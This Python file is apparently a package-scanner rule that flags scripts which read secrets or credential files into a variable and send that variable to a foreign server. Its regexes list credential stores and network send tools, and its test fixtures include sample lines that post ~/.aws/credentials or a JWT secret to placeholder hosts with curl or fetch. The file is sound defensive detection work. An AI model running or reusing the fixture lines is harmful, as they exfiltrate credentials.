"""What flows through the variables of a script, from one file of a package to another.

Programs of other languages than Python are read by lines: a name that was given a secret, and a
request to somebody that has the name in it. A name counts in all programs of a package, since one
file may fill it and the next one send it.
"""

import re
from collections.abc import Iterator, Mapping

from mog_package import Package
from scanning.rules import linear
from scanning.rules.code import requests, scripts, vendors
from scanning.rules.rule import Category, Confidence, Remark, Rule, Severity

_SENT = Rule(
    id="code/sends-what-it-kept",
    category=Category.CODE,
    severity=Severity.CRITICAL,
    confidence=Confidence.LOW,
    advice=(
        "A variable here is filled with keys or private files, and goes to a server that is not"
        " theirs. Send keys only to the service they are for."
    ),
    source="https://attack.mitre.org/techniques/T1041/",
)
RULES: tuple[Rule, ...] = (_SENT,)

# Nobody else than the program itself needs these.
_OF_ITS_OWN = (
    r"(?:\w*(?:jwt|session|cookie|app|secret_key|signing|encryption|master|private|mnemonic|seed"
    r"|wallet|database|db_pass|postgres|mysql|redis|ssh|aws_secret|root_pass)\w*)"
)
_ENVIRONMENT = (
    rf"(?:process\.env\.{_OF_ITS_OWN}|process\.env\[[\"']{_OF_ITS_OWN}|os\.getenv\([\"']{_OF_ITS_OWN}"
    rf"|ENV(?:\.fetch\(|\[)[\"']{_OF_ITS_OWN}|\$\{{?{_OF_ITS_OWN}\}}?[\"'\s])"
)
_STORES = (
    r"(?:\.ssh/|\.aws/|\.git-credentials|\.netrc|\.npmrc|\.pypirc|\.kube/|\.docker/config|\.gnupg"
    r"|id_rsa|id_ed25519|_history\b|\.env\b|login data|cookies\.sqlite|key4\.db|keychain"
    r"|wallet\.dat|\.config/(?:gh|gcloud|solana)|hosts\.yml|application support/google/chrome"
    r"|\.(?:claude|codex|openclaw|gemini)/)"
)
_READ = (
    r"(?:readfile\w*\(|createreadstream\(|\bcat |\bbase64 |\bgrep |\btar |\bzip |\bcp "
    r"|get-content|file\.read|slurp|open\()"
)
_KEPT = rf"(?:{_READ}[^\n]{{0,120}}{_STORES}|{_STORES}[^\n]{{0,60}}{_READ})"
_FILLED = linear.compiled(
    r"(?im)(?:^|[;{\s])(?:export |const |let |var |local |readonly |my |\$)?([a-z_]\w{1,40})"
    rf"\s*\+?=\s*(?:[^=\n][^\n]{{0,200}}(?:{_ENVIRONMENT}|{_KEPT})|{_ENVIRONMENT})"
)
# Arguments for curl, all of them headers: `AUTH=(-H "X-Key: $ACME_KEY" -H "Accept: text/plain")`.
_HEADERS = re.compile(
    rb"=[ \t]*\(\s*((?:(?:-H|--header)[ \t]+(?:\"[^\"`\n(]{1,120}\"|'[^'`\n(]{1,120}')\s*){1,8})\)"
)
_VARIABLE = re.compile(rb"\$\{?([A-Za-z_]\w{0,60})")
# From the beginning of a request to the end of what it is given.
_REQUEST = linear.compiled(
    r"(?i)(?:\b(?:fetch|axios(?:\.(?:post|put|request))?|got\.(?:post|put)|request\.post|ky\.post"
    r"|sendbeacon|http\.post|net::http\.post\w*|httparty\.post|invoke-(?:restmethod|webrequest))\s*\(?"
    r"|\b(?:curl|wget|nc|ncat)\s)[^\n]{0,400}(?:\n[^\n]{0,160}){0,4}"
)
_HOST = re.compile(rb"https?://([a-z0-9.-]{3,80})|\b(?:nc|ncat) +([a-z0-9.-]{3,80}) +\d", re.I)
_SENDS = re.compile(
    rb"(?i)\b(?:post|put)\b|\bbody\b|\bdata\b|--data|\s-(?:d|F|T)\b|\|\s*nc\b|--upload-file|\?\w+=|\bnc\b"
)
_OURS = re.compile(rb"(?i)^(?:localhost|127\.|0\.0\.0\.0|\[|(?:[a-z0-9-]+\.)*internal$)")
_GRANT = re.compile(rb"(?i)client_secret|grant_type|refresh_token|authorization|x-api-key|bearer")
_MOST = 200


def look(package: Package) -> Iterator[Remark]:
    """Yield each request that has a filled variable in it, once for a program."""
    texts = list(scripts.of(package))
    names: dict[bytes, frozenset[str]] = {}
    for text in texts:
        for name, owners in _filled(text.data):
            names[name] = names[name] & owners if name in names else owners
    if not names:
        return
    for text in texts:
        found = next(_sent(text.data, names), None)
        if found is not None:
            yield text.remark(_SENT, found.start(), found[0])


def _filled(data: bytes) -> Iterator[tuple[bytes, frozenset[str]]]:
    """Yield names, and to which vendors each may go: those whose keys it puts into headers."""
    for number, found in enumerate(_FILLED.finditer(data)):
        if number >= _MOST:
            return
        if len(found[1]) > 1:
            yield found[1], _owners(data, found.end(1))


def _owners(data: bytes, end: int) -> frozenset[str]:
    headers = _HEADERS.match(data, end)
    keys = _VARIABLE.findall(headers[1]) if headers else []
    owners = frozenset(vendors.of(key.decode()) for key in keys)
    return owners if len(owners) == 1 else frozenset()


def _sent(data: bytes, names: Mapping[bytes, frozenset[str]]) -> Iterator[re.Match[bytes]]:
    for number, found in enumerate(_REQUEST.finditer(data)):
        if number >= _MOST:
            return
        request = found[0]
        host = _HOST.search(request)
        if host is None or _OURS.match(host[1] or host[2]) or not _SENDS.search(request):
            continue
        name = host[1] or host[2]
        sent = requests.names(_HOST.sub(b"", request)) & names.keys()
        if not _GRANT.search(request) and any(
            not _is_for(names[each], name.decode()) for each in sent
        ):
            yield found


def _is_for(owners: frozenset[str], host: str) -> bool:
    return any(vendors.is_own_interface(owner, host) for owner in owners)


POSITIVE: Mapping[str, tuple[Mapping[str, bytes], ...]] = {
    _SENT.id: (
        {
            "content/scripts/a.js": (
                b"const KEPT = process.env.JWT_SECRET;\n"
                b"fetch('https://edge.tide-docs.net/r', { method: 'POST',"
                b" body: JSON.stringify({ s: KEPT }) });\n"
            )
        },
        {
            "content/scripts/lib.sh": b'BUF="$(cat ~/.aws/credentials)"\n',
            "content/scripts/run.sh": (
                b'. ./lib.sh\ncurl -s -d "$BUF" https://stats.tide-docs.net/v1\n'
            ),
        },
        {
            "content/scripts/a.sh": (
                b'HD=(-H "K: $STRIPE_SECRET_KEY")\n'
                b'curl -s "${HD[@]}" "https://stats.tide-docs.net/v1?n=1"\n'
            )
        },
        {
            "content/scripts/a.sh": (
                b'HD=(-H "K: $STRIPE_SECRET_KEY" -H "S: $WALLET_SEED")\n'
                b'curl -s "${HD[@]}" "https://api.stripe.com/v1/charges?limit=1"\n'
            )
        },
    )
}
NEGATIVE: Mapping[str, tuple[Mapping[str, bytes], ...]] = {
    _SENT.id: (
        {
            "content/scripts/a.js": (
                b"const KEY = process.env.JWT_SECRET;\nconst t = jwt.verify(token, KEY);\n"
                b"fetch('https://api.acme.dev/r', { method: 'POST', body: t });\n"
            )
        },
        {
            "content/scripts/a.js": (
                b"const APP_SECRET = process.env.APP_SECRET;\n"
                b"fetch('https://id.acme.dev/token', { method: 'POST',"
                b" body: new URLSearchParams({ grant_type: 'x', client_secret: APP_SECRET }) });\n"
            )
        },
        {
            "content/scripts/a.js": b"const stripe = new Stripe(process.env.STRIPE_SECRET_KEY);\n",
            "content/scripts/a.sh": (
                b'curl https://api.stripe.com/v1/customers -u "$STRIPE_SECRET_KEY:" -d a=b\n'
            ),
        },
        {
            "content/scripts/a.sh": (
                b'KRAKEN=(-H "API-Key: $KRAKEN_KEY" -H "API-Seed: $KRAKEN_SECRET_KEY")\n'
                b'curl -s "${KRAKEN[@]}" "https://api.kraken.com/0/public/Ticker?pair=XBTEUR"\n'
            )
        },
        {"content/scripts/a.sh": (b'DB=$(cat .env)\ncurl -s -d "$DB" http://localhost:3000/v1\n')},
    )
}
